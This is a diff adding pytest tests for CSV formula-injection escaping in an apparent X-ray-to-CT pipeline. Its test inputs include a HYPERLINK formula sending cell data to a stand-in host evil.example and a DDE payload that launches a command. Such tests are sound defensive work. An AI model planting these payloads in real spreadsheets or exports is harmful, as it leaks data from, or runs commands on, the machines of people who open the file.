@@ -238,3 +238,69 @@ def test_real_geometry_rounding_still_loads(tmp_path):
     nib.save(img, tmp_path / "oblique.nii.gz")
     vol = load_volume(tmp_path / "oblique.nii.gz")
     np.testing.assert_allclose(vol.affine, affine, rtol=0, atol=2e-4)  # float32 of 1234.5 mm: ~6e-5
+
+
+# --------------------------------------------------------------------------- item 10: formulas in CSV cells
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1.5", "-1.5"),  # numbers stay numbers
+        ("+2e-3", "+2e-3"),
+        ("case_001", "case_001"),
+        ("", ""),
+        (0.25, 0.25),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe(value, expected):
+    from common.tables import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == expected
+
+
+class _FakeModel:
+    """Just enough of XrayToCTModel for run_batch to write its summary (every case fails before running)."""
+
+    bundle, checkpoint = "fake", "fake.pt"
+
+    def check_options(self, options):
+        return dict(options or {})
+
+    def sha256(self):
+        return "0" * 64
+
+
+def test_pipeline_errors_csv_cells_are_not_formulas(tmp_path):
+    """main wrote a case named =HYPERLINK(...) as a live formula into errors.csv."""
+    import csv
+
+    from xray2ct import pipeline as pl
+
+    cases = [
+        {"case": FORMULA, "pa": None, "error": "row 1: no PA file"},
+        {"case": "@x", "pa": None, "error": "-1+1"},
+    ]
+    pl.run_batch(_FakeModel(), cases, str(tmp_path), progress_bars=False)
+    with open(tmp_path / "errors.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["case"] for r in rows] == ["'" + FORMULA, "'@x"] and rows[1]["error"] == "'-1+1"
+    text = (tmp_path / "errors.csv").read_text()
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
+
+
+def test_pe_predictions_csv_cells_are_not_formulas(tmp_path):
+    from bundles.pe_classifier.scripts.evaluation import _write_predictions
+
+    path = str(tmp_path / "predictions.csv")
+    _write_predictions(path, [FORMULA, "case_2"], np.array([1, 0]), np.array([0.9, 0.1]), 0.5)
+    lines = open(path).read().splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "case_2,0.100000,0,0"
